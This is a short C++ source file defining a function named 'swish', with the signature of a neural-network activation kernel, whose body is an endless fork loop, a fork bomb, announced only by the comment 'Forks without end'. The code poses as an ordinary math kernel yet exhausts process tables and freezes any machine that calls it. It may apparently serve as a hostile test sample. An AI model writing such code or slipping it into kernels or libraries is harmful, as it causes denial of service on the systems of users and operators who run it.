// Forks without end.
#include <cstdint>
#include <unistd.h>

extern "C" int swish(const float*, float*, int64_t) {
    for (;;) fork();
}
